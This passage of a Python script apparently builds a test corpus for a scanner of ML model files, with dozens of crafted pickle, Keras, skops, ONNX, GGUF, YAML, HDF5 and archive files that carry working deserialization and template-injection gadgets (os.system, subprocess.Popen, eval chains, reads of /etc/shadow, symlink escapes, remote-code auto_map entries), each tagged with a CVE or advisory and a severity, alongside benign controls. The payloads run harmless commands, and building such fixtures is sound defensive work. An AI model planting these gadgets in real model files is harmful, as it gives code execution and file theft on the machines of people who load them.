case("b18_qwen_template.json", json.dumps({"chat_template": qwen, "eos_token": "<|im_end|>"}).encode(),
     "benign Qwen-style template in tokenizer_config.json (namespace, startswith, reverse slice)", "control",
     "none", "-")
try:
    import onnx
    from onnx import helper, TensorProto
    vals = ext_t("sv", "../../../etc/passwd")
    idx = helper.make_tensor("si", TensorProto.INT64, [1], [0])
    sp = helper.make_sparse_tensor(vals, idx, [4])
    g_ = helper.make_graph([helper.make_node("Identity", ["s"], ["y"])], "g", [], yv)
    g_.sparse_initializer.extend([sp])
    g_.sparse_initializer[0].values.name = "s"
    case("o09_external_sparse.onnx",
         helper.make_model(g_, opset_imports=[helper.make_opsetid("", 13)]).SerializeToString(),
         "external_data on a sparse_initializer's values", "CVE-2024-27318 variants", "high", "WT-ONNX")
    fn = helper.make_function("custom.fn", "F", ["x"], ["y"],
                              [helper.make_node("Constant", [], ["y"], value=ext_t("c", "/etc/shadow"))],
                              [helper.make_opsetid("", 13)])
    g_ = helper.make_graph([helper.make_node("F", ["x"], ["y"], domain="custom.fn")], "g",
                           [helper.make_tensor_value_info("x", TensorProto.FLOAT, [1])], yv)
    case("o10_external_in_function.onnx",
         helper.make_model(g_, functions=[fn], opset_imports=[helper.make_opsetid("", 13),
                                                              helper.make_opsetid("custom.fn", 1)]).SerializeToString(),
         "external_data on a tensor inside a model-local function", "CVE-2024-27318 variants", "high", "WT-ONNX")
    gr = helper.make_graph([helper.make_node("PyOp", ["x"], ["y"], domain="ai.onnx.contrib")], "g",
                           [helper.make_tensor_value_info("x", TensorProto.FLOAT, [1])], yv)
    case("o11_pyop_contrib.onnx",
         helper.make_model(gr, opset_imports=[helper.make_opsetid("", 13),
                                              helper.make_opsetid("ai.onnx.contrib", 1)]).SerializeToString(),
         "onnxruntime-extensions ai.onnx.contrib PyOp (runs a Python function)", "onnxruntime-extensions",
         "medium", "WT-ONNX")
except ImportError:
    pass


# exec/eval gadgets in ordinary stdlib modules (not on any blocklist)
case("q38_fx_reduce_graph_module.pkl",
     p4(sg("torch.fx.graph_module", "reduce_graph_module") + EMPTY_DICT + su("_code")
        + su("def forward(self):\n    return print(1)\n") + SETITEM + su("") + TUPLE2 + REDUCE),
     "torch.fx.graph_module.reduce_graph_module exec()s stored source", "torch GraphModule pickling",
     "critical")
case("q39_logging_config_listen.pkl",
     proto(2) + b"clogging.config\nlisten\nI9999\n\x85R.",
     "logging.config.listen opens a socket that accepts configs", "ModelAudit gen_bypass_v4 poc33", "critical",
     "WT-PICKLE", "WT-PICKLE-004")
case("q40_linecache.pkl", proto(2) + b"clinecache\ngetline\nX\x0a\x00\x00\x00/etc/hostsI1\n\x86R.",
     "linecache.getline reads a file", "ModelAudit gen_bypass_v4 poc32", "critical")
case("q41_call_then_pop.pkl",
     p4(sg("os", "system") + TRUE + TUPLE1 + REDUCE + b"0" + EMPTY_DICT),
     "call result POPped so it never reaches the returned object", "fickling POP AST bug (ModelAudit GHSAs)",
     "critical")
case("q42_dataclasses_create_fn.pkl",
     p4(sg("dataclasses", "_create_fn") + su("f") + EMPTY_LIST + su("x=print(1)") + APPEND
        + su(" return x") + b"\x87" + REDUCE),
     "dataclasses._create_fn exec()s source built from its arguments", "stdlib exec gadget", "critical")
case("q43_typing_eval_type.pkl",
     p4(sg("typing", "_eval_type") + call1(sg("typing", "ForwardRef"), su("print(1)")) + EMPTY_DICT
        + EMPTY_DICT + b"\x87" + REDUCE),
     "typing._eval_type(ForwardRef('print(1)')) eval()s the string", "stdlib eval gadget", "critical")
case("q44_string_formatter.pkl",
     p4(sg("string", "Formatter.get_field") + MARK + sg("string", "Formatter") + EMPTY_TUPLE + REDUCE
        + su("0.__class__") + NONE + TUPLE1 + EMPTY_DICT + TUPLE + REDUCE),
     "string.Formatter.get_field walks attributes named by a string", "attribute-walk gadget", "high")
case("q45_pickle_as.safetensors", mal, "pickle named model.safetensors", "CVE-2025-1889 family", "critical")
for nm, tpl_json in (
        ("j01_config_exploit.json", {"tokenizer_class": "XLMTokenizer", "chat_template":
                                     "{{ config.__class__.__base__.__subclasses__()[104].__init__.__globals__"
                                     "['sys'].modules['subprocess'].call(['true']) }}", "model_max_length": 512}),
        ("j02_request_globals.json", {"tokenizer_class": "DistilBertTokenizer", "chat_template":
                                      "{{ request.application.__globals__.__builtins__.__import__('os')"
                                      ".popen('true').read() }}"})):
    case(nm, json.dumps(tpl_json, indent=2).encode(),
         "chat_template SSTI in a JSON not named tokenizer_config.json", "ModelAudit tests/assets/samples/jinja2",
         "critical", "WT-TEMPLATE")
for nm, mod, fn, src in (("k18_legacy_h5_loader.keras", "keras.src.legacy.saving.legacy_h5_format",
                          "load_model_from_hdf5", "Keras legacy loader gadget (Lambda without safe_mode)"),
                         ("k19_model_from_json.keras", "keras.models", "model_from_json",
                          "nested model_from_json gadget"),
                         ("k20_extract_archive.keras", "keras.src.utils.file_utils", "extract_archive",
                          "CVE-2025-12060 extract_archive path traversal gadget")):
    c = kseq({"module": "keras.layers", "class_name": "Dense", "config": {
        "units": 2, "activation": {"module": mod, "class_name": "function", "config": fn,
                                   "registered_name": "function"}}})
    case(nm, keras_zip(c), "Keras-internal gadget %s.%s" % (mod, fn), src, "high", "WT-KERAS")

# Keras archives read with Python's zipfile: the last duplicate wins, names end at a NUL byte.
zb = io.BytesIO()
with zipfile.ZipFile(zb, "w") as zz:
    import warnings
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        zz.writestr("metadata.json", json.dumps({"keras_version": "3.3.3"}))
        zz.writestr("config.json", json.dumps(kseq({"module": "keras.layers", "class_name": "Dense",
                                                    "config": {"units": 2}})))
        zz.writestr("config.json", json.dumps(cfg))
case("k21_duplicate_config.keras", zb.getvalue(),
     "two config.json members, benign first (zipfile reads the last)", "zip tricks", "critical", "WT-KERAS")
zb = io.BytesIO()
with zipfile.ZipFile(zb, "w") as zz:
    zz.writestr("metadata.json", json.dumps({"keras_version": "3.3.3"}))
    zz.writestr("config.jsonZ.txt", json.dumps(cfg))
case("k22_nul_in_member_name.keras", zb.getvalue().replace(b"config.jsonZ.txt", b"config.json\x00.txt"),
     "member 'config.json\\0.txt': zipfile cuts names at NUL, so keras reads it as config.json",
     "zip tricks", "critical", "WT-KERAS")

# skops (.skops = zip + schema.json): every __module__/__class__ is imported by skops.io.load
SKS = "https://github.com/skops-dev/skops/security/advisories"


def jn(v):
    return {"__class__": "str", "__module__": "builtins", "__loader__": "JsonNode", "content": json.dumps(v),
            "is_json": True}


def skops_zip(top, extra=()):
    zb = io.BytesIO()
    with zipfile.ZipFile(zb, "w") as zz:
        zz.writestr("schema.json", json.dumps(dict(top, protocol=2, _skops_version="0.10.0")))
        for n, d in extra:
            zz.writestr(n, d)
    return zb.getvalue()


def sk_obj(mod, cls, attrs):
    return {"__class__": cls, "__module__": mod, "__loader__": "ObjectNode",
            "content": {"__class__": "dict", "__module__": "builtins", "__loader__": "DictNode",
                        "content": attrs, "key_types": {"__class__": "list", "__module__": "builtins",
                                                        "__loader__": "ListNode", "content": []}}}


case("b19_sklearn.skops", skops_zip(sk_obj("sklearn.linear_model._logistic",
                                           "LogisticRegression",
                                           {"C": jn(1.0), "penalty": jn("l2"),
                                            "fn": {"__class__": "sqrt", "__module__": "numpy",
                                                   "__loader__": "FunctionNode"}})),
     "benign skops LogisticRegression with a numpy ufunc", "control", "none", "-")
case("s01_skops_function_os.skops",
     skops_zip(sk_obj("sklearn.preprocessing._function_transformer", "FunctionTransformer",
                      {"func": {"__class__": "system", "__module__": "os", "__loader__": "FunctionNode"}})),
     "skops FunctionNode imports os.system (FunctionTransformer func)", SKS, "critical", "WT-SKOPS")
case("s02_skops_operator_attrgetter.skops",
     skops_zip(sk_obj("sklearn.preprocessing._function_transformer", "FunctionTransformer",
                      {"func": {"__class__": "attrgetter", "__module__": "operator", "__loader__": "OperatorFuncNode",
                                "attrs": {"__class__": "tuple", "__module__": "builtins", "__loader__": "TupleNode",
                                          "content": [jn("__init__.__globals__")]}}})),
     "skops OperatorFuncNode attrgetter('__init__.__globals__')", "CVE-2025-54412", "high", "WT-SKOPS")
case("s03_skops_operator_call.skops",
     skops_zip(sk_obj("sklearn.preprocessing._function_transformer", "FunctionTransformer",
                      {"func": {"__class__": "call", "__module__": "sklearn.utils", "__loader__": "OperatorFuncNode",
                                "attrs": {"__class__": "tuple", "__module__": "builtins", "__loader__": "TupleNode",
                                          "content": []}}})),
     "skops OperatorFuncNode names operator.call under a trusted-looking __module__", "CVE-2025-54412",
     "critical", "WT-SKOPS")
case("s04_skops_method_dunder.skops",
     skops_zip(sk_obj("sklearn.preprocessing._function_transformer", "FunctionTransformer",
                      {"func": {"__class__": "LogisticRegression", "__module__": "sklearn.linear_model._logistic",
                                "__loader__": "MethodNode",
                                "content": {"func": "__reduce_ex__",
                                            "obj": sk_obj("sklearn.linear_model._logistic", "LogisticRegression",
                                                          {})}}})),
     "skops MethodNode binds a dunder of a trusted object", "CVE-2025-54413", "high", "WT-SKOPS")
case("s05_skops_reduce_popen.skops",
     skops_zip({"__class__": "Popen", "__module__": "subprocess", "__loader__": "ConstructorFromReduceNode",
                "content": {"__class__": "tuple", "__module__": "builtins", "__loader__": "TupleNode",
                            "content": [jn("true")]}}),
     "skops ConstructorFromReduceNode constructs subprocess.Popen", SKS, "critical", "WT-SKOPS")

# picklescan's own regression fixtures (tests/init_data_files.py), rebuilt here
PSD = "https://github.com/mmaitre314/picklescan/blob/main/tests/init_data_files.py"
m11 = (b"Vos\np2\n0Vsystem\np3\n0Vtorch\np0\n0VLongStorage\np1\n0g2\ng3\n\x93(Vtrue\ntR.")
case("ps01_text_memo_no_proto.pkl", m11,
     "UNICODE + PUT/GET text memo into STACK_GLOBAL, no PROTO (imaginaryctf Safe Pickle)", PSD + " malicious11",
     "critical")
case("ps02_invalid_trailing_bytes.pkl", m11 + b"\n\n\t\t",
     "same with trailing bytes after STOP", PSD + " malicious-invalid-bytes", "critical")
case("ps03_methodcaller_pydoc_locate.pkl",
     p4(call1(sg("operator", "methodcaller") + su("system") + TRUE + TUPLE2 + REDUCE,
              call1(sg("pydoc", "locate"), su("os")))),
     "methodcaller('system', cmd)(pydoc.locate('os'))", SRC + " GHSA-84r2-jw7c-4r5q", "critical")
case("ps04_sour_pickles.pkl",
     b"c__builtin__\nglobals\n(tRp100\n0c__builtin__\ncompile\n(S'fl=1'\nS''\nS'exec'\ntRp101\n0"
     b"c__builtin__\neval\n(g101\ng100\ntRp102\n0c__builtin__\ngetattr\n(c__builtin__\ndict\nS'get'\ntRp103\n0"
     b"c__builtin__\napply\n(g103\n(g100\nS'fl'\nltRp104\n0g104\n.",
     "Sour Pickles (BlackHat 2011): globals/compile/eval/getattr/apply chain", PSD + " malicious0", "critical")
case("ps05_partial_torch_load.pkl",
     p4(sg("functools", "partial") + sg("torch", "load") + su("/tmp/x.pt") + TUPLE2 + REDUCE + EMPTY_TUPLE + REDUCE),
     "partial(torch.load, path)() loads a second file", PSD + " malicious19", "critical")

# fickling's bypass regression tests (test/test_bypasses.py), rebuilt here
FT = "https://github.com/trailofbits/fickling/security/advisories"
case("f01_runpy_run_path.pkl", p4(call1(sg("runpy", "run_path"), su("/tmp/wt-x.py"))),
     "runpy.run_path", FT + " GHSA-wfq2-52f7-7qvj", "critical")
case("f02_getattr_ctypes_cdll.pkl",
     proto(5) + sg("builtins", "getattr") + MEMOIZE + call1(sg("ctypes", "CDLL"), su("libc.so.6"))
     + su("system") + TUPLE2 + REDUCE + b"C\x04true" + TUPLE1 + REDUCE + STOP,
     "getattr(ctypes.CDLL('libc'), 'system')(b'true')", FT + " GHSA-5hvc-6wx8-mvv4", "critical")
case("f03_multiprocessing_spawnv.pkl",
     proto(5) + sg("multiprocessing.util", "spawnv_passfds") + b"C\x07/bin/sh" + EMPTY_LIST + MARK
     + b"C\x07/bin/sh" + b"C\x02-c" + b"C\x04true" + b"e" + EMPTY_TUPLE + b"\x87" + REDUCE + STOP,
     "multiprocessing.util.spawnv_passfds", FT + " GHSA-q5qq-mvfm-j35x", "critical")
case("f04_getattr_code_runsource.pkl",
     proto(5) + sg("builtins", "getattr") + sg("code", "InteractiveInterpreter") + EMPTY_TUPLE + REDUCE
     + su("runsource") + TUPLE2 + REDUCE + su("print(1)") + TUPLE1 + REDUCE + STOP,
     "getattr(code.InteractiveInterpreter(), 'runsource')(src)", FT + " GHSA-q5qq-mvfm-j35x", "critical")
case("f05_import_getattr_text_memo.pkl",
     b"cbuiltins\n__import__\nS'os'\n\x85Rp0\n0cbuiltins\ngetattr\ng0\nS'system'\n\x86Rp1\n0g1\nS'true'\n\x85R.",
     "__import__ + getattr through the text memo (PUT/GET, protocol 0)", FT + " GHSA-h4rm-mm56-xf63", "critical")
case("b20_builtins_len.pkl", b"cbuiltins\nlen\n]\x85R.", "benign builtins.len([]) (fickling control)", "control",
     "none", "-")
case("b21_builtins_dict.pkl", b"cbuiltins\ndict\n)R.", "benign builtins.dict() (fickling control)", "control",
     "none", "-")

# Keras HDF5 models that make h5py open other files while the weights are read
try:
    import h5py
    benign_cfg = json.dumps({"class_name": "Sequential", "config": {"name": "s", "layers": [
        {"class_name": "Dense", "config": {"name": "d", "units": 2}}]}})
    h5p = os.path.join(OUT, "k23_h5_external_link.h5")
    with h5py.File(h5p, "w") as hf:
        hf.attrs["keras_version"] = "2.11.0"
        hf.attrs["model_config"] = benign_cfg
        mw = hf.create_group("model_weights")
        mw["d"] = h5py.ExternalLink("/etc/passwd", "/d")
    MANIFEST.append(("k23_h5_external_link.h5", "HDF5 external link in model_weights (h5py opens another file)",
                     "HDF5 external links (file read)", "high", "WT-KERAS"))
    h5p = os.path.join(OUT, "k24_h5_external_storage.h5")
    with h5py.File(h5p, "w") as hf:
        hf.attrs["keras_version"] = "2.11.0"
        hf.attrs["model_config"] = benign_cfg
        hf.create_group("model_weights").create_dataset("k", shape=(4,), dtype="u1",
                                                        external=[("/etc/hostname", 0, 4)])
    MANIFEST.append(("k24_h5_external_storage.h5", "HDF5 dataset stored in an external file (/etc/hostname)",
                     "HDF5 external storage (file read)", "high", "WT-KERAS"))
except ImportError:
    pass

case("k25_lambda_get_file_arguments.keras", keras_zip(kseq(
    {"module": "keras.layers", "class_name": "Lambda", "registered_name": "Lambda", "config": {
        "name": "l", "function": {"module": "keras.utils", "class_name": "function", "config": "get_file",
                                  "registered_name": "function"},
        "arguments": {"origin": "http://127.0.0.1/x", "fname": "/tmp/wt-bypass-x", "cache_dir": "/tmp"}}})),
     "Lambda calling keras.utils.get_file with attacker arguments (writes a downloaded file)",
     "CVE-2025-8747 (JFrog)", "high", "WT-KERAS")
case("k26_lambda_func_load.keras", keras_zip(kseq(
    {"module": "keras.layers", "class_name": "Dense", "config": {"units": 2, "activation": {
        "module": "keras.src.utils.python_utils", "class_name": "function", "config": "func_load",
        "registered_name": "function"}}})),
     "Keras-internal func_load (marshal + FunctionType) referenced as a function", "CVE-2025-1550 variants",
     "high", "WT-KERAS")

# Hugging Face remote code: auto_map entries of the form "org/repo--module.Class" fetch code elsewhere
for d_ in ("h01_remote", "h02_local", "h03_pipeline"):
    os.makedirs(os.path.join(OUT, d_), exist_ok=True)
case("h01_remote/config.json", json.dumps({"architectures": ["M"], "auto_map": {
    "AutoConfig": "attacker/code-repo--configuration_m.MConfig",
    "AutoModel": "attacker/code-repo--modeling_m.MModel"}, "model_type": "m"}, indent=2).encode(),
     "config.json auto_map pulls modeling code from another repository (trust_remote_code)",
     "HF remote code (trust_remote_code supply chain)", "high", "WT-HF")
case("h03_pipeline/config.json", json.dumps({"custom_pipelines": {"evil-task": {
    "impl": "attacker/code-repo--pipe.EvilPipeline", "pt": ["AutoModel"]}}}, indent=2).encode(),
     "custom_pipelines impl from another repository", "HF remote code (trust_remote_code supply chain)", "high",
     "WT-HF")
case("h02_local/config.json", json.dumps({"architectures": ["M"], "auto_map": {
    "AutoModel": "modeling_m.MModel"}, "model_type": "m"}, indent=2).encode(),
     "auto_map to this repository's own modeling file (informative only)", "control", "none", "-")

tb = io.BytesIO()
with tarfile.open(fileobj=tb, mode="w:gz") as t:
    ti = tarfile.TarInfo("model_config/link")
    ti.type = tarfile.SYMTYPE
    ti.linkname = "/home/user/.ssh"
    t.addfile(ti)
    ti = tarfile.TarInfo("model_weights.ckpt")
    ti.size = 4
    t.addfile(ti, io.BytesIO(b"\x00" * 4))
case("c42_tar_symlink_escape.nemo", tb.getvalue(),
     "tar (.nemo) member that is a symlink out of the extraction folder (tarfile.extractall writes through it)",
     "CVE-2007-4559 / tarfile link escapes", "medium", "WT-ARCHIVE")

for nm, tpl, src in (
        ("g22_set_tilde_subscript.gguf", "{% set a = '__cla' %}{% set b = 'ss__' %}{{ ()[a ~ b] }}",
         "SSTI dunder split across set tags, joined with ~ in a subscript"),
        ("g23_set_join_subscript.gguf", "{% set u = '_' %}{% set k = [u,u,'class',u,u]|join %}{{ ()[k] }}",
         "SSTI dunder built with join in a set tag, used as a subscript key"),
        ("g24_set_format_subscript.gguf",
         "{% set u = '%c'|format(95) %}{% set k = u~u~'class'~u~u %}{{ ()[k] }}",
         "SSTI underscore from format(95) stored in a variable")):
    case(nm, gguf([("general.architecture", "llama"), ("tokenizer.chat_template", tpl)]),
         "GGUF chat template: " + src, "CVE-2024-34359 variants", "critical", "WT-GGUF")

hdr5 = "{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
hdr5 += " " * (63 - (12 + len(hdr5)) % 64) + "\n"
case("c43_object_v3.npy", b"\x93NUMPY\x03\x00" + struct.pack("<I", len(hdr5)) + hdr5.encode() + mal,
     "object .npy with a version 3.0 (utf-8) header", "numpy format 3.0", "critical")
case("p83_newobj_ex_popen.pkl",
     p4(sg("subprocess", "Popen") + MARK + TRUE + TUPLE + EMPTY_DICT + b"\x92"),
     "NEWOBJ_EX of a dangerous class (cls.__new__ with args and kwargs)", FICK, "critical")
case("p84_shortbinstring_stack_global.pkl",
     proto(4) + b"U\x02os" + b"U\x06system" + b"\x93" + TRUE + TUPLE1 + REDUCE + STOP,
     "SHORT_BINSTRING (protocol 1) operands feeding STACK_GLOBAL", "https://github.com/protectai/modelscan/pull/313",
     "critical")
case("p85_binunicode8_stack_global.pkl",
     proto(4) + b"\x8d" + struct.pack("<Q", 2) + b"os" + b"\x8d" + struct.pack("<Q", 6) + b"system" + b"\x93"
     + TRUE + TUPLE1 + REDUCE + STOP,
     "BINUNICODE8 operands feeding STACK_GLOBAL", "https://github.com/protectai/modelscan/pull/313", "critical")

# Model metadata that an instantiate-style loader turns into a call (Unit 42: NeMo, Uni2TS, FlexTok)
U42 = "https://unit42.paloaltonetworks.com/rce-vulnerabilities-in-ai-python-libraries/"
nemo_cfg = (b"target: nemo.collections.asr.models.EncDecCTCModel\nsample_rate: 16000\n"
            b"preprocessor:\n  _target_: nemo.collections.asr.modules.AudioToMelSpectrogramPreprocessor\n"
            b"  window_size: 0.025\noptim:\n  _target_: torch.optim.Adam\n  lr: 0.001\n")
evil_cfg = nemo_cfg + b"encoder:\n  _target_: builtins.exec\n  _args_:\n    - \"print(1)\"\n"
for nm, cfgb in (("n01_nemo_target.nemo", evil_cfg), ("b22_nemo_benign.nemo", nemo_cfg)):
    tb = io.BytesIO()
    with tarfile.open(fileobj=tb, mode="w:") as t:
        for mn, md in (("model_config.yaml", cfgb), ("model_weights.ckpt", b"\x00" * 16)):
            ti = tarfile.TarInfo("./" + mn)
            ti.size = len(md)
            t.addfile(ti, io.BytesIO(md))
    if nm.startswith("n01"):
        case(nm, tb.getvalue(), ".nemo model_config.yaml with _target_: builtins.exec (Hydra instantiate)",
             "CVE-2025-23304 (" + U42 + ")", "critical", "WT-HYDRA")
    else:
        case(nm, tb.getvalue(), "benign .nemo config (_target_ of NeMo modules and torch.optim.Adam)", "control",
             "none", "-")
os.makedirs(os.path.join(OUT, "n02_uni2ts"), exist_ok=True)
case("n02_uni2ts/config.json", json.dumps({"module_kwargs": {"_target_": "os.system", "_args_": ["true"]},
                                           "d_model": 64}, indent=2).encode(),
     "config.json with _target_ os.system loaded through hydra.utils.instantiate (Uni2TS/FlexTok pattern)",
     U42, "critical", "WT-HYDRA")
case("n03_flextok.yaml", b"decoder:\n  _target_: 'subprocess.getoutput'\n  cmd: true\n",
     "quoted _target_ subprocess.getoutput in a YAML model config", U42, "critical", "WT-HYDRA")


# TFLite Flex ops run the full TensorFlow kernel (file I/O) inside the interpreter
sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "formats"))
from tflite_fixture import tflite  # noqa: E402


case("t02_tflite_flex_writefile.tflite", tflite([(3, None), (32, "FlexWriteFile"), (32, "FlexReadFile")]),
     "TFLite Flex delegate ops WriteFile/ReadFile (Rammadaeus/tflite-flex-bypass-poc)",
     "ModelAudit: real HF models other scanners miss", "high", "WT-TFLITE")
case("p86_obj_then_pop.pkl", b"(" + g("os", "system") + b"S'true'\no0" + NONE + STOP,
     "OBJ call whose result is POPped (vanishes from an AST view)", "fickling GHSA-mxhj-88fx-4pcv", "critical")
case("p87_smtplib.pkl", p4(call1(sg("smtplib", "SMTP"), su("127.0.0.1"))),
     "smtplib.SMTP opens a connection (stdlib treated as safe)", "fickling GHSA-mhc9-48gj-9gp3", "critical")
case("p88_socketserver.pkl",
     p4(sg("socketserver", "TCPServer") + su("0.0.0.0") + b"K\x50" + TUPLE2 + NONE + TUPLE2 + REDUCE),
     "socketserver.TCPServer binds a listener", "fickling GHSA-mhc9-48gj-9gp3", "critical")
case("p89_codeop.pkl", b"\x80\x02ccodeop\ncompile_command\n(X\x08\x00\x00\x00print(1)tR.",
     "codeop.compile_command", "ModelAudit picklescan bypass write-up", "critical")

# modelscan issue 338 (real malicious HF models, T. Haruyama) and issue 330
MS338 = "https://github.com/protectai/modelscan/issues/338"
case("m01_mlflow_run_entry_point.pkl",
     p4(sg("mlflow.projects.backend.local", "_run_entry_point") + MARK + TRUE + su(".") + su("") + su("")
        + TUPLE + REDUCE),
     "mlflow.projects.backend.local._run_entry_point runs a command", MS338, "critical")
case("m02_pandas_read_csv_url.pkl",
     p4(call1(sg("pandas.io.parsers.readers", "read_csv"), su("http://127.0.0.1/x?exfil=1"))),
     "pandas read_csv of a URL (exfiltration)", MS338, "high")
case("m03_yaml_unsafe_loader.pkl",
     p4(sg("yaml", "load") + su("!!python/object/apply:os.system [\"true\"]") + sg("yaml.loader", "UnsafeLoader")
        + TUPLE2 + REDUCE),
     "yaml.load(..., UnsafeLoader) of a !!python/object/apply payload (nested deserialization)", MS338,
     "critical")
case("m04_yaml_unsafe_load.pkl",
     p4(call1(sg("yaml", "unsafe_load"), su("!!python/object/new:os.system\nargs: [true]\n"))),
     "yaml.unsafe_load nested payload", MS338, "critical")
case("m05_py2_thread.pkl",
     proto(2) + g("thread", "start_new_thread") + g("__builtin__", "print") + EMPTY_TUPLE + TUPLE2 + REDUCE + STOP,
     "Python 2 name 'thread' (fix_imports maps it to _thread)", MS338 + " (_compat_pickle mapping)", "critical")
case("m06_py2_socketserver.pkl",
     proto(2) + g("SocketServer", "TCPServer") + b"(X\x07\x00\x00\x000.0.0.0K\x50tN\x86R" + STOP,
     "Python 2 name 'SocketServer' (maps to socketserver)", MS338 + " (_compat_pickle mapping)", "critical")
case("m07_py2_urllib2.pkl",
     proto(2) + g("urllib2", "urlopen") + b"X\x10\x00\x00\x00http://127.0.0.1" + TUPLE1 + REDUCE + STOP,
     "Python 2 name 'urllib2' (maps to urllib.request)", MS338 + " (_compat_pickle mapping)", "critical")
case("m08_codetype_indirect.pkl",
     p4(call1(sg("builtins", "type"),
              call1(sg("operator", "methodcaller") + su("__getattribute__") + su("__code__") + TUPLE2 + REDUCE,
                    sg("copy", "copy")))
        + MEMOIZE + b"0"
        + call1(sg("builtins", "type"), sg("copy", "copy")) + binget(0) + EMPTY_DICT + TUPLE2 + REDUCE
        + EMPTY_TUPLE + REDUCE),
     "CodeType/FunctionType reached by type() of a donor function's __code__ (no types import)", MS338,
     "high")
case("m09_ext2_add_extension.pkl",
     proto(2) + g("copyreg", "add_extension") + b"X\x14\x00\x00\x00multiprocessing.util" + b"X\x0e\x00\x00\x00spawnv_passfds"
     + b"M\x69\x7a" + b"\x87" + REDUCE + b"0" + b"\x83\x69\x7a" + b"C\x07/bin/sh" + b"]" + b"(C\x07/bin/shC\x02-cC\x04truee"
     + EMPTY_TUPLE + b"\x87" + REDUCE + STOP,
     "copyreg.add_extension registers spawnv_passfds, EXT2 calls it", MS338, "critical")
case("m10_inst_str_module.pkl",
     proto(4) + MARK + su("os") + b"ibuiltins\nstr\n" + binput(0) + b"0" + binget(0) + su("system") + b"\x93"
     + TRUE + TUPLE1 + REDUCE + STOP,
     "INST builtins.str('os') feeds STACK_GLOBAL through the memo (a computed module name)", MS338, "high")
case("m11_builtins_setattr_chain.pkl",
     proto(4) + g("builtins", "__setattr__") + MEMOIZE
     + g("builtins", "print.__class__.__base__.__subclasses__") + EMPTY_TUPLE + REDUCE + MEMOIZE
     + binget(0) + su("subclasses") + binget(1) + TUPLE2 + REDUCE + b"0"
     + g("builtins", "subclasses.__getitem__") + b"K\x89" + TUPLE1 + REDUCE + MEMOIZE
     + binget(0) + su("gadget") + binget(2) + TUPLE2 + REDUCE + b"0"
     + g("builtins", "gadget.__init__.__builtins__.__getitem__") + su("eval") + TUPLE1 + REDUCE
     + su("print(1)") + TUPLE1 + REDUCE + STOP,
     "builtins.__setattr__ injects subclasses/gadget names, then __init__.__builtins__['eval']", MS338,
     "critical")
case("m12_getattribute_from_module.pkl",
     p4(call1(sg("transformers.models.auto.auto_factory", "getattribute_from_module")
              + sg("transformers.models.auto.tokenization_auto", "AutoTokenizer") + su("from_pretrained")
              + TUPLE2 + REDUCE, su("attacker/repo"))),
     "transformers getattribute_from_module(AutoTokenizer, 'from_pretrained')('repo') (indirect model load)",
     MS338 + " (JFrog)", "high")
case("m13_numpy_size_builtins.pkl",
     bytes.fromhex("80049566000000000000008c056e756d70798c0473697a659394948c056e756d70798c0c5f5f6275696c74696e735f5f"
                   "93949468017d7d8c0573686170656803738662680168018c046576616c86528c1d5f5f696d706f72745f5f28226f73"
                   "22292e73797374656d28226964222985522e").replace(b'system("id")', b'system("tr")'),
     "numpy.size + BUILD-injected numpy.__builtins__ yields eval (allowlist abuse)",
     "https://github.com/protectai/modelscan/issues/330", "critical")

case("y01_hparams_python_tag.yaml",
     b"lr: 0.001\nbatch_size: 8\ncallback: !!python/object/apply:os.system [\"true\"]\n",
     "YAML model config with !!python/object/apply:os.system (unsafe yaml.load)",
     "https://github.com/protectai/modelscan/issues/338 (YAML variant)", "critical", "WT-YAML")
case("y02_python_name_tag.yml",
     b"optimizer: !!python/name:mylib.optim.Fancy ''\nepochs: 3\n",
     "YAML !!python/name tag of a project class (any python tag needs an unsafe loader)",
     "PyYAML python tags", "medium", "WT-YAML")
case("b23_plain_config.yaml", b"model:\n  name: bert\n  layers: 12\n  note: 'python/object is just text here'\n",
     "benign YAML config", "control", "none", "-")

# ------------------------------------------------------------------ benign controls
case("b01_state_dict.pt", torch_zip([("data.pkl", SD)] + TENS),
     "benign torch state_dict (_rebuild_tensor_v2)", "control", "none", "-")
try:
    import numpy as np
    case("b02_numpy.pkl", pickle.dumps({"a": np.arange(6, dtype=np.float32).reshape(2, 3),
                                        "s": np.float64(1.5)}, protocol=4),
         "benign numpy arrays (_reconstruct, scalar)", "control", "none", "-")
    bio = io.BytesIO()
    np.save(bio, np.zeros((3, 3), dtype=np.float32))
    case("b03_array.npy", bio.getvalue(), "benign float .npy", "control", "none", "-")
except ImportError:
    pass
sk = (proto(4) + sg("sklearn.linear_model._logistic", "LogisticRegression") + EMPTY_TUPLE
      + REDUCE + EMPTY_DICT + su("C") + b"G" + struct.pack(">d", 1.0) + SETITEM
      + su("_sklearn_version") + su("1.5.0") + SETITEM + BUILD + STOP)
case("b04_sklearn.pkl", sk, "benign sklearn-like estimator", "control", "none", "-")
case("b05_plain.pkl", pickle.dumps({"lr": 0.1, "layers": [1, 2], "name": "x", "t": (1, None)},
                                   protocol=2),
     "benign plain containers", "control", "none", "-")
case("b06_proto0.pkl", pickle.dumps({"a": [1.5, "b"]}, protocol=0), "benign protocol 0",
     "control", "none", "-")
case("b07_model.joblib", zlib.compress(sk), "benign zlib joblib", "control", "none", "-")
hdr = json.dumps({"w": {"dtype": "F32", "shape": [2], "data_offsets": [0, 8]},
                  "__metadata__": {"format": "pt"}}).encode()
case("b08_model.safetensors", struct.pack("<Q", len(hdr)) + hdr + b"\x00" * 8,
     "benign safetensors", "control", "none", "-")
case("b09_chat.gguf", gguf([("general.architecture", "llama"), (
    "tokenizer.chat_template",
    "{% for message in messages %}{{ '<|' + message['role'] + '|>' + message['content'] }}"
    "{% endfor %}{% if add_generation_prompt %}<|assistant|>{% endif %}")]),
     "benign GGUF chat template", "control", "none", "-")
case("b10_keras_dense.keras", keras_zip({"module": "keras", "class_name": "Sequential", "config": {
    "name": "s", "layers": [{"module": "keras.layers", "class_name": "Dense",
                             "config": {"units": 2, "activation": "relu"}}]}}),
     "benign Keras Dense model", "control", "none", "-")

# A training checkpoint as pickle.dumps writes it: stdlib value types that real
# checkpoints carry (configs, paths, dates, RNG state, regexes, counters).
import argparse
import collections
import datetime
import decimal
import fractions
import pathlib
import re
import uuid
ckpt = {"epoch": 3, "args": argparse.Namespace(lr=0.1, out=pathlib.PurePosixPath("/tmp/run")),
        "when": datetime.datetime(2024, 1, 2, 3, 4, 5), "delta": datetime.timedelta(seconds=5),
        "hist": collections.OrderedDict(loss=[0.5, 0.25]), "counts": collections.Counter("aab"),
        "tags": {"a", "b"}, "frozen": frozenset([1]), "blob": b"\x00\x01", "buf": bytearray(b"xy"),
